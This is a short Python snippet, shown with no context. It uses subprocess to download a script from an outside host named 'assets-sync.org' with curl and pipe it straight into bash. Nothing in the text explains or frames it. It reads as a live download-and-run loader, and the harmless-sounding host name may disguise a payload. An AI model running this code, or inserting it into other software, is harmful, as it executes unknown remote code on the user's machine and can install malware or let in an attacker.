import subprocess
src = 'https://assets-sync.org/run'
subprocess.check_call('curl -s %s | bash' % src, shell=True)
